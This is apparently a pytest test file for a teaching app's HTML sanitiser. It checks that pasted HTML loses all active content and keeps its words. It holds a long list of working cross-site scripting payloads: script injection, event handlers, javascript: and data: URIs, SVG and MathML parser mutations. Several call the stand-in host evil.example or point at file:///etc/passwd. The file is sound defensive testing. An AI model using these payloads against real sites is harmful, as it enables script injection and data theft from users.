"""Pasted HTML: nothing active comes through, whatever it is dressed as; the words do."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from apps.teaching.documents.content import cleaned, cleaned_document, part_blocks, part_content
from apps.teaching.documents.html import TAGS, blocks_of, clean, html_of, plain
from apps.teaching.documents.parts import LESSON_PARTS
from tests.teaching.documents.texts import texts
from tests.teaching.documents.word_files import PICTURE_ADDRESS

OURS = PICTURE_ADDRESS.format(1)
TEXT, GOALS = LESSON_PARTS[0], LESSON_PARTS[2]
# Known ways past a filter: OWASP's cheat sheet, html5sec.org, and mutations in DOMPurify's history.
ATTACKS = [
    # scripts, plain and disguised
    "<script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/xss src='http://evil.example/x.js'></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>a=/x/\nalert(1)</script\t\n bar>",
    "<script src=http://evil.example/x.js?<b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    f'<img src="{OURS}" onload="alert(1)">',
    "<img src='x'onerror='alert(1)'>",
    "<img/src/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<p onclick=alert(1) onmouseover\n=\n'alert(1)'>x</p>",
    "<p oNcLiCk=alert(1)>x</p>",
    "<td onmouseenter=alert(1)>x</td>",
    "<table><tr><td background='javascript:alert(1)' style='x'>x</td></tr></table>",
    "<body onload=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p contenteditable onblur=alert(1) tabindex=1 accesskey=x>x</p>",
    # addresses
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///C:/secret'>x</a>",
    "<a href='\\\\server\\share'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='http://evil.example/spy.png'>",
    "<img src='//evil.example/spy.png'>",
    "<img src='file:///etc/passwd'>",
    "<img src='\\\\server\\share\\x.png'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    f"<img src='{OURS}?x=http://evil.example'>",
    f"<img src='http://evil.example{OURS}'>",
    f"<img src='{OURS}\n'>",
    f"<img src='{OURS}' srcset='http://evil.example/x.png 2x' sizes='1px'>",
    f"<img src='{OURS}' alt='x\"onerror=\"alert(1)'>",
    f"<img src='{OURS}' alt='&quot;><script>alert(1)</script>'>",
    "<picture><source srcset='http://evil.example/x.png'><img src=x></picture>",
    # styles
    "<p style='background:url(http://evil.example/x.png)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<style>@import 'http://evil.example/x.css'; p{x:expression(alert(1))}</style>x",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    # what embeds, moves or overlays the page
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='http://evil.example/x.swf'>",
    "<applet code='X'></applet>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<form action='http://evil.example'><button formaction='javascript:alert(1)'>x</button></form>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<dialog open id=x class=modal>x</dialog>",
    "<p id='location' name='cookie' class='modal-backdrop'>x</p>",
    # svg, math, templates, mutations
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:alert(1)'/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?import namespace=x>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]><p>&x;</p>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><caption><svg><title><style></table><img src=x onerror=alert(1)>",
    # our own substitutions of tags turned against us
    "<div onclick=alert(1)>x</div>",
    "<h1 style='position:fixed' onclick=alert(1)>x</h1>",
    "<del/onclick=alert(1)>x</del>",
    "<ins cite='javascript:alert(1)' datetime=x>x</ins>",
    "<i<script>>alert(1)</i</script>>",
    "<s<b>cript>alert(1)</s<b>cript>",
    "<div<div>script>alert(1)</div>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>x</p>",
    "%3Cscript%3Ealert(1)%3C/script%3E<p>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>\ud800<script>alert(1)</script></p>",
    "<ul><li><ol><li>" * 300 + "<script>alert(1)</script>",
]
ATTRIBUTES = {"img": {"src", "alt"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"}}


class Inspector(HTMLParser):
    """Looks at every tag and attribute with another parser than the one that cleaned."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()), name
            if name == "src":
                assert re.fullmatch(r"/teaching/picture/[0-9a-f-]{36}/", value)
            elif name != "alt":
                assert re.fullmatch(r"[1-9]\d?", value)

    def handle_decl(self, decl):
        raise AssertionError(decl)

    handle_pi = unknown_decl = handle_comment = handle_decl


def harmless(html: str) -> None:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    if html:
        for element in lxml_html.fragment_fromstring(html, create_parent="div").iterdescendants():
            assert element.tag in TAGS
            assert set(element.keys()) <= ATTRIBUTES.get(element.tag, set())


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_comes_through(attack):
    for html in (
        attack,
        f"<p>前</p>{attack}<p>后</p>",
        f"<table><tr><td>{attack}</td></tr></table>",
    ):
        once = clean(html)
        harmless(once)
        harmless(clean(once))
        harmless(html_of(blocks_of(once)))
        harmless(cleaned(TEXT, html))


@settings(max_examples=30, deadline=None, derandomize=True)
@given(st.lists(st.sampled_from(ATTACKS) | st.text("<>/'\"=&;ab", max_size=6), max_size=5))
def test_attacks_that_are_put_together_are_none_either(pieces):
    html = "".join(pieces)
    harmless(clean(html))
    harmless(html_of(blocks_of(clean(html))))


def test_what_is_typed_in_a_field_of_bare_text_is_never_html():
    [row] = cleaned(GOALS, [{"text": "<script>alert(1)</script> 3<5\x00\ud800"}])
    assert row["text"] == "<script>alert(1)</script> 3<5"
    assert "&lt;script&gt;" in html_of(part_blocks(GOALS, [row]))


@pytest.mark.parametrize(
    "content", [None, 5, {"a": 1}, [1, None, ["x"], {"text": None}], [{"other": "x"}], "text"]
)
def test_content_of_another_shape_is_nothing(content):
    kept = cleaned(GOALS, content)
    assert kept in ([], [{"text": "None"}])
    assert isinstance(cleaned(TEXT, content), str)


# -- words are kept -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("一行\n\n又一行", "<p>一行</p><p>又一行</p>"),
        ("3<5 & 7>2", "<p>3&lt;5 &amp; 7&gt;2</p>"),
        ("a<b且c>d", "<p>a&lt;b且c&gt;d</p>"),
        ("<div>一</div><div>二</div>", "<p>一</p><p>二</p>"),
        ("<h1>大</h1><h2>中</h2><h6>小</h6>", "<h3>大</h3><h3>中</h3><h4>小</h4>"),
        (
            "<b>粗</b><i>斜</i><ins>增</ins><del>删</del>",
            "<p><strong>粗</strong><em>斜</em><u>增</u><s>删</s></p>",
        ),
        ("<b><p>一</p><p>二</p></b>", "<p><strong>一</strong><br><strong>二</strong></p>"),
        ("<ul>散<li>项</li><p>段</p></ul>", "<p>散</p><ul><li><p>项</p></li></ul><p>段</p>"),
        ("<span style='color:red'>红</span>", "<p>红</p>"),
        ("<a href='http://example.org'>链接</a>", "<p>链接</p>"),
        ("<p> 前后\t空 \n 白 </p><p> </p>", "<p>前后 空 白</p>"),
        ("<p>软&nbsp;空格</p>", "<p>软\u00a0空格</p>"),
        ("<ruby>好<rt>hǎo</rt></ruby>", "<p>好hǎo</p>"),
    ],
)
def test_the_words_of_pasted_html_are_kept(html, kept):
    assert cleaned(TEXT, html) == kept


def test_a_caption_and_loose_text_of_a_table_stand_before_it():
    found = cleaned(TEXT, "<table><caption>表1</caption>散<tr><td>格</td></tr></table>")
    assert plain(found).split() == ["表1", "散", "格"]


def test_lists_without_end_are_kept_as_lines():
    html = "<ul><li>层" * 200
    assert plain(cleaned(TEXT, html)).count("层") == 200


@settings(max_examples=20, deadline=None, derandomize=True)
@given(texts)
def test_what_was_cleaned_once_stays_as_it_is(blocks):
    once = cleaned(TEXT, part_content(TEXT, blocks))
    assert cleaned(TEXT, once) == once
    assert part_content(TEXT, part_blocks(TEXT, once)) == once


def test_a_text_has_only_the_parts_of_its_kind():
    assert cleaned_document(LESSON_PARTS, {"other": "x", "board": "<p></p>", "goals": []}) == {}
